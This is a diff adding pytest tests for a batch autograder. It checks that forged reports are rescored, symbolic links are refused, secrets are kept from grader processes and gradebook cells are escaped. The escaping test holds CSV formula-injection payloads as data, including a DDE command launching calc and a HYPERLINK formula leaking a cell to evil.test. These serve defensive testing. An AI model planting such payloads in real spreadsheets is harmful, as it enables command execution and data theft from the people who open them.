@@ -2,17 +2,27 @@
 
 from __future__ import annotations
 
+import copy
 import csv
 import json
+import os
 import shutil
 import subprocess
 import sys
+import time
+from pathlib import Path
 
 import pytest
 
-from checks.batch import grade_all
+from checks import batch
+from checks.batch import Graded, find_submissions, grade_all, grade_one, validated, write_gradebook
 from checks.fingerprint import fingerprint, published
+from checks.reports.scorecard import MESSAGE_CAP
 from tests.conftest import GRADED_IDS, ROOT
+from tests.fake_grader import forged, honest
+
+FAKE_GRADER = Path(__file__).with_name("fake_grader.py")
+POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="symbolic links, FIFOs and signals as on POSIX")
 
 pytestmark = pytest.mark.timeout(300)
 
@@ -36,7 +46,7 @@ def graded_class(tmp_path_factory):
         (folder / name).write_text(text)
     before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
     out = folder / "grades"
-    results = grade_all(folder, out, jobs=2, time_limit=10, memory_mib=1024)
+    results = grade_all(folder, out, jobs=2, time_limit=60, memory_mib=1024)
     return folder, out, {r.name: r for r in results}, before
 
 
@@ -48,15 +58,18 @@ def test_each_submission_gets_its_own_row_and_the_good_one_full_marks(graded_cla
     with open(out / "gradebook.csv", newline="") as sheet:
         rows = {row["submission"]: row for row in csv.DictReader(sheet)}
     assert list(rows["alice"])[1:11] == GRADED_IDS
+    assert list(rows["alice"])[11:] == ["explain", "total", "max", "notes"]
     assert rows["alice"]["total"] == "100" and rows["bob"]["alter-2"] == "0"
+    assert rows["alice"]["explain"] == "answers written" and "answers missing" in rows["bob"]["explain"]
 
 
 def test_misbehaving_submissions_are_reported_as_such(graded_class) -> None:
     _, _, results, _ = graded_class
+    # Whether the grader process or only its worker dies depends on --official (being built): either way, said.
     assert "line 23: SyntaxError" in results["carol"].note
-    assert results["exits_itself"].note == "crashed before writing a report (exit status 3)"
-    assert results["sleeps_forever"].note == "timed out after 10 s and was stopped"
-    assert "MemoryError" in results["eats_memory"].note or "killed" in results["eats_memory"].note
+    assert "exit" in results["exits_itself"].note
+    assert "did not finish" in results["sleeps_forever"].note or "time limit" in results["sleeps_forever"].note
+    assert "MemoryError" in results["eats_memory"].note or results["eats_memory"].note == "ran out of memory (cap 1024 MiB)"
     assert all(results[n].total == 0 for n in ("carol", "exits_itself", "sleeps_forever", "eats_memory"))
 
 
@@ -65,13 +78,255 @@ def test_gradebook_json_keeps_every_message(graded_class) -> None:
     book = json.loads((out / "gradebook.json").read_text())
     alter2 = next(i for i in book["bob"]["report"]["items"] if i["id"] == "alter-2")
     assert any("waited" in c["message"] for c in alter2["checks"])
-    assert book["exits_itself"]["report"] is None and book["exits_itself"]["note"]
+    assert book["exits_itself"]["total"] == 0 and book["exits_itself"]["note"]
+    assert book["alice"]["explain"] == "answers written" and book["alice"]["report"]["score"] == 100
 
 
 def test_submissions_are_graded_on_copies_and_left_untouched(graded_class) -> None:
     folder, _, _, before = graded_class
     assert {p: p.read_bytes() for p in before} == before
     assert (folder / "grades" / "logs" / "alice.log").is_file()
+
+
+# -- The parent trusts no report (no student code runs in these) -----------------------------------
+
+
+def _without(report: dict, item_id: str) -> dict:
+    report["items"] = [i for i in report["items"] if i["id"] != item_id]
+    return report
+
+
+def _base(report: dict) -> dict:
+    return next(i for i in report["items"] if i["id"] == "base")
+
+
+def _malformed() -> dict[str, tuple[object, str]]:
+    """Broken or forged reports, each with the note its row must get."""
+    unknown, duplicate, hacked, status, score, message = (honest() for _ in range(6))
+    unknown["items"].append({**_base(unknown), "id": "bonus"})
+    duplicate["items"].append(copy.deepcopy(_base(duplicate)))
+    _base(hacked)["checks"][0]["outcome"] = "hacked"
+    _base(status)["status"] = "excellent"
+    score["score"] = "100"
+    _base(message)["checks"][0]["message"] = None
+    return {
+        "not a dict": ([], "report unreadable: not a JSON object"),
+        "no items": ({"score": 100}, "report unreadable: items missing"),
+        "items a string": ({"items": "all passed"}, "report unreadable: items is not a list"),
+        "unknown id": (unknown, "report unreadable: unknown item id 'bonus'"),
+        "duplicate": (duplicate, "report unreadable: item 'base' appears twice"),
+        "outcome hacked": (hacked, "report unreadable: item 'base', check 1 has outcome 'hacked'"),
+        "status": (status, "report unreadable: item 'base' has status 'excellent'"),
+        "score a string": (score, "report unreadable: score is not a number"),
+        "item missing": (_without(honest(), "fix-3"), "report unreadable: item 'fix-3' missing"),
+        "message not a string": (message, "report unreadable: item 'base', check 1: message is not a string"),
+    }
+
+
+@pytest.mark.parametrize("case", list(_malformed()))
+def test_a_malformed_report_is_not_read(case: str) -> None:
+    report, note = _malformed()[case]
+    assert validated(report) == (None, note)
+
+
+def test_scores_are_recomputed_from_check_outcomes_and_the_catalogue() -> None:
+    report, note = validated(forged())
+    assert note == "" and report["score"] == 80 and report["max_score"] == 100
+    assert _base(report)["status"] == "failed" and _base(report)["score"] == 0
+    claimed = honest()
+    _base(claimed)["checks"] = []  # "passed" with no check behind it
+    for item in claimed["items"]:
+        item["max_score"] = item["score"] = 1000
+    report, _ = validated(claimed)
+    assert report["score"] == 80 and _base(report)["status"] == "ungraded"
+    assert [i["max_score"] for i in report["items"]][:2] == [20, 5]
+
+
+def test_a_report_keeps_only_so_much() -> None:
+    long = honest()
+    for item in long["items"]:
+        item["checks"] = [{"name": "n" * 1000, "outcome": "failed", "message": "x" * 20_000} for _ in range(40)]
+    report, note = validated(long)
+    messages = [c["message"] for i in report["items"] for c in i["checks"]]
+    assert note == "" and max(len(m) for m in messages) == MESSAGE_CAP + len(" [...]")
+    assert sum(map(len, messages)) < batch.REPORT_MESSAGES_CAP + 10 * len(messages)
+    assert max(len(c["name"]) for i in report["items"] for c in i["checks"]) <= batch.NAME_CAP + len(" [...]")
+
+
+def test_the_gradebook_cannot_carry_a_formula(tmp_path: Path) -> None:
+    scored, _ = validated(honest())
+    rows = [
+        Graded("=cmd|' /C calc'!A0", None, note='=HYPERLINK("http://evil.test/?leak="&A1, "click")'),
+        Graded("bob", scored, note="-2+3\nsecond line", explain="@SUM(A1:A9)", scores={"base": 20}),
+        Graded("carol", None, note="\tTAB first", explain="+1"),
+    ]
+    write_gradebook(rows, tmp_path)
+    with open(tmp_path / "gradebook.csv", newline="", encoding="utf-8") as sheet:
+        evil, bob, carol = csv.DictReader(sheet)
+    assert evil["submission"] == "'=cmd|' /C calc'!A0" and bob["total"] == "20"
+    assert evil["notes"] == "'=HYPERLINK(\"http://evil.test/?leak=\"&A1, \"click\")"
+    assert bob["notes"] == "'-2+3 second line" and bob["explain"] == "'@SUM(A1:A9)"
+    assert carol["notes"] == "TAB first" and carol["explain"] == "'+1"
+    assert not list(tmp_path.glob(".gradebook*"))  # written beside, then renamed over
+    assert json.loads((tmp_path / "gradebook.json").read_text())["bob"]["total"] == 20
+
+
+# -- Symbolic links and the output folder -----------------------------------------------------------
+
+
+@POSIX_ONLY
+def test_symbolic_links_are_refused_not_followed(tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    (elsewhere / "trudy").mkdir(parents=True)
+    shutil.copy(ROOT / "solutions" / "project.py", elsewhere / "trudy" / "project.py")
+    secret = elsewhere / "secret.txt"
+    secret.write_text("the instructor's answers\n")
+    folder = tmp_path / "class"
+    for name in ("mallory", "oscar", "peggy"):
+        (folder / name).mkdir(parents=True)
+    (folder / "mallory" / "project.py").symlink_to(ROOT / "solutions" / "project.py")
+    (folder / "trudy").symlink_to(elsewhere / "trudy")
+    (folder / "eve.py").symlink_to(secret)
+    shutil.copy(ROOT / "solutions" / "project.py", folder / "oscar" / "project.py")
+    (folder / "oscar" / "ANSWERS.md").symlink_to(secret)
+    shutil.copy(ROOT / "solutions" / "project.py", folder / "peggy" / "project.py")
+    os.mkfifo(folder / "peggy" / "ANSWERS.md")  # would block a reader forever
+    (folder / "grades").mkdir()
+    (folder / "grades" / "project.py").write_text("planted by an earlier run\n")
+    results = {r.name: r for r in grade_all(folder, folder / "grades", grader=_fake("honest", tmp_path / "seen.json"))}
+    assert results["mallory"].note == "refused: mallory/project.py is a symbolic link"
+    assert results["trudy"].note == "refused: trudy is a symbolic link"
+    assert results["eve"].note == "refused: eve.py is a symbolic link"
+    assert results["oscar"].note == "refused: oscar/ANSWERS.md is a symbolic link"
+    assert results["peggy"].note == "refused: peggy/ANSWERS.md is not a regular file"
+    assert "grades" not in results and all(r.total == 0 and r.report is None for r in results.values())
+    assert not (tmp_path / "seen.json").exists()  # no grader ran
+
+
+def test_the_output_folder_and_shared_names_are_handled(tmp_path: Path) -> None:
+    for path in ("results/project.py", "grades/project.py", "alice/project.py", "alice.py", "bob/project.py"):
+        (tmp_path / path).parent.mkdir(exist_ok=True)
+        (tmp_path / path).write_text("")
+    found = find_submissions(tmp_path, skip=tmp_path / "results")
+    assert [(name, path.relative_to(tmp_path).as_posix()) for name, path in found] == [
+        ("alice", "alice.py"), ("alice~2", "alice/project.py"), ("bob", "bob/project.py"),
+    ]
+
+
+# -- What a grader ends with (a stand-in grader: no student code runs) -------------------------------
+
+
+def _fake(mode: str, record: Path) -> list[str]:
+    return [sys.executable, str(FAKE_GRADER), mode, str(record)]
+
+
+def _one(tmp_path: Path, mode: str, **options) -> tuple[Graded, dict]:
+    """Grade a folder submission with the stand-in grader in `mode`; the row, and what the stand-in was given."""
+    (tmp_path / "class" / "alice").mkdir(parents=True, exist_ok=True)
+    shutil.copy(ROOT / "solutions" / "project.py", tmp_path / "class" / "alice" / "project.py")
+    shutil.copy(ROOT / "solutions" / "ANSWERS.md", tmp_path / "class" / "alice" / "ANSWERS.md")
+    record = tmp_path / f"{mode}.json"
+    graded = grade_one("alice", tmp_path / "class" / "alice" / "project.py", tmp_path / "out",
+                       root=tmp_path / "class", grader=_fake(mode, record), **options)
+    return graded, json.loads(record.read_text()) if record.exists() else {}
+
+
+def test_a_forged_report_gets_the_recomputed_score(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setenv("INSTRUCTOR_TOKEN", "not for graders")
+    monkeypatch.setenv("PYTHONDONTWRITEBYTECODE", "1")
+    graded, seen = _one(tmp_path, "forged")
+    assert graded.total == 80 and graded.scores["base"] == 0 and graded.note == ""
+    assert graded.report["score"] == 80 and graded.explain == "answers written"
+    assert "--official" in seen["argv"] and "--require-sandbox" not in seen["argv"]
+    assert seen["files"] == ["ANSWERS.md", "project.py"] and seen["cache_is_folder"]
+    assert "INSTRUCTOR_TOKEN" not in seen["env"] and "PYTHONDONTWRITEBYTECODE" not in seen["env"]
+    assert set(seen["env"]) <= {"PATH", "HOME", "LANG", "TMPDIR", "VIRTUAL_ENV", "PYTHONPYCACHEPREFIX"} | {
+        k for k in seen["env"] if k.startswith("LC_")}
+    assert not Path(seen["env"]["PYTHONPYCACHEPREFIX"]).exists()  # removed after
+    assert (tmp_path / "out" / "logs" / "alice.log").is_file()
+
+
+def test_the_mode_options_reach_the_grader(tmp_path: Path) -> None:
+    _, seen = _one(tmp_path, "honest", official=False)
+    assert "--official" not in seen["argv"]
+    _, seen = _one(tmp_path, "honest", require_sandbox=True)
+    assert "--official" in seen["argv"] and "--require-sandbox" in seen["argv"]
+
+
+@POSIX_ONLY
+@pytest.mark.parametrize(("mode", "note"), [
+    ("sleep", "stopped at the time limit of 2 s"),
+    ("memory", "ran out of memory (cap 1024 MiB)"),
+    ("sigterm", "killed by SIGTERM, not by the batch grader (from another process?)"),
+    ("exit3", "the grader exited with status 3 before writing a report"),
+    ("silent", "report unreadable: no report written"),
+    ("garbage", "report unreadable: not valid JSON"),
+    ("fifo", "report unreadable: grade.json is not a regular file"),
+    ("link", "report unreadable: grade.json is a symbolic link"),
+])
+def test_each_ending_is_labelled_by_its_cause(tmp_path: Path, mode: str, note: str) -> None:
+    graded, _ = _one(tmp_path, mode, time_limit=2, memory_mib=1024)
+    assert graded.note == note and graded.total == 0 and graded.report is None
+
+
+@POSIX_ONLY
+def test_nothing_a_grader_started_outlives_it(tmp_path: Path) -> None:
+    graded, seen = _one(tmp_path, "straggler")
+    assert graded.total == 100 and graded.note == ""
+    assert _gone(seen["straggler"])
+
+
+def _gone(pid: int, wait: float = 5.0) -> bool:
+    """True once pid is no process, or only a zombie waiting for init to reap it."""
+    deadline = time.monotonic() + wait
+    while time.monotonic() < deadline:
+        try:
+            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+        except (OSError, IndexError):
+            try:
+                os.kill(pid, 0)
+            except ProcessLookupError:
+                return True
+            state = "?"
+        if state == "Z":
+            return True
+        time.sleep(0.05)
+    return False
+
+
+def test_every_row_is_written_whatever_the_graders_do(tmp_path: Path) -> None:
+    folder = tmp_path / "class"
+    folder.mkdir()
+    for name in ("ann", "ben"):
+        (folder / f"{name}.py").write_text("")
+    results = grade_all(folder, tmp_path / "out", grader=_fake("garbage", tmp_path / "seen.json"))
+    with open(tmp_path / "out" / "gradebook.csv", newline="") as sheet:
+        rows = list(csv.DictReader(sheet))
+    assert [r["submission"] for r in rows] == ["ann", "ben"] and {r.total for r in results} == {0}
+    assert {r["notes"] for r in rows} == {"report unreadable: not valid JSON"}
+
+
+# -- The command line --------------------------------------------------------------------------------
+
+
+def test_the_first_line_says_whether_submissions_run_sandboxed(tmp_path: Path, monkeypatch, capsys) -> None:
+    (tmp_path / "ann.py").write_text("")
+    monkeypatch.setattr(batch, "GRADER", tuple(_fake("honest", tmp_path / "seen.json")))
+    monkeypatch.setattr(batch.sandbox, "available", lambda: (False, "not Linux (testing)"))
+    assert batch.main([str(tmp_path), "--require-sandbox"]) == 2
+    refused = capsys.readouterr()
+    assert refused.out == "" and "--require-sandbox" in refused.err and "not Linux (testing)" in refused.err
+    assert batch.main([str(tmp_path)]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[0].startswith("Sandbox: OFF (not Linux (testing)). Each submission still runs in its own worker")
+    assert lines[1].startswith("[1/1] ann") and "100/100" in lines[1] and lines[2].startswith("Graded 1 submissions")
+    assert batch.main([str(tmp_path), "--in-process"]) == 0
+    assert capsys.readouterr().out.startswith("Sandbox: OFF (--in-process)")
+    monkeypatch.setattr(batch.sandbox, "available", lambda: (True, "bubblewrap: testing"))
+    assert batch.main([str(tmp_path), "--require-sandbox"]) == 0
+    assert capsys.readouterr().out.startswith("Sandbox: on (bubblewrap: testing)\n")
+    with pytest.raises(SystemExit):
+        batch.main([str(tmp_path), "--in-process", "--require-sandbox"])
 
 
 def test_fingerprint_is_stable_and_changes_with_any_check(tmp_path) -> None:
